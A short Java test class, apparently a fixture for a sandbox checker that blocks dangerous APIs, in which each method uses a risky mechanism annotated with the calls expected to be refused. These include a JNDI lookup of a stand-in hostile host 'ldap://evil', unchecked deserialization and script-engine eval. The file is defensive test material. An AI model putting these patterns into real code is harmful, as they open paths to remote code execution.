package hw;

import java.io.ByteArrayInputStream;
import java.io.ObjectInputStream;
import java.util.ServiceLoader;

public class Attack implements java.util.function.DoubleSupplier {
    @Override
    public double getAsDouble() {
        return ServiceLoader.load(Runnable.class).findFirst().hashCode(); // refused: java.util.ServiceLoader.load, java.util.ServiceLoader.findFirst
    }

    Object script() throws Exception {
        return new javax.script.ScriptEngineManager().getEngineByName("js").eval("1"); // refused: new javax.script.ScriptEngineManager, javax.script.ScriptEngineManager.getEngineByName, javax.script.ScriptEngine.eval
    }

    Object name() throws Exception {
        return new javax.naming.InitialContext().lookup("ldap://evil"); // refused: new javax.naming.InitialContext, javax.naming.InitialContext.lookup
    }

    Object object() throws Exception {
        return new ObjectInputStream(new ByteArrayInputStream(new byte[9])).readObject(); // refused: new java.io.ObjectInputStream, java.io.ObjectInputStream.readObject
    }

    Object bundle() {
        return java.util.ResourceBundle.getBundle("x"); // refused: java.util.ResourceBundle.getBundle
    }

    void xml() throws Exception {
        new java.util.Properties().loadFromXML(System.in); // refused: new java.util.Properties, java.util.Properties.loadFromXML
    }
}
